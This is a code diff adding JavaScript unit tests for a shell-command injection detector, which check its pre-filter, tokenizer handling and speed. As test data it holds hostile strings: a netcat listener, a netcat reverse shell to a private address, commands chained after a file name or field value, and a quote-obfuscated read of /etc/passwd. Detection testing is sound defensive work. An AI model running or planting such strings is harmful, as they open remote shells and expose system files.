@@ -179,3 +179,33 @@ describe('shell detector: robustness', () => {
     }
   });
 });
+
+describe('shell detector: the head pre-filter skips words without changing verdicts', () => {
+  it('still sees heads reached through assignments, versions, .exe, upper case and two-letter names', () => {
+    for (const v of [
+      'a=nc&&$a -nlvp 555',
+      'x; python3.11 -c "import os"',
+      'x | NC.exe -e cmd 10.0.0.1 80',
+      'report.pdf; id',
+      'x;ls -la /etc',
+      'x && id3',
+    ])
+      assert.deepEqual(rules(v), rules(v.replace('report.pdf', 'other.pdf')), v);
+    assert.ok(score('a=nc&&$a -nlvp 555') >= 5);
+    assert.ok(score('report.pdf; id') >= 5);
+    assert.ok(score('x;ls -la /etc') >= 5);
+  });
+  it('reads words the way the tokenizer does: "+" as a space, ">&1" ending a word, quotes inside', () => {
+    assert.ok(rules('|id+').includes('rce-command-chain'));
+    assert.ok(rules('>&1sh').includes('rce-command-line'));
+    assert.ok(score("x; c'a't /etc/passwd") >= 5);
+    assert.ok(score('probe=";id"') >= 5);
+  });
+  it('lets prose and browser strings through cheaply', () => {
+    const ua = 'Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0';
+    assert.equal(score(ua), 0);
+    const t = performance.now();
+    for (let i = 0; i < 20_000; i++) shellFindings(ua);
+    assert.ok(performance.now() - t < 2_000);
+  });
+});
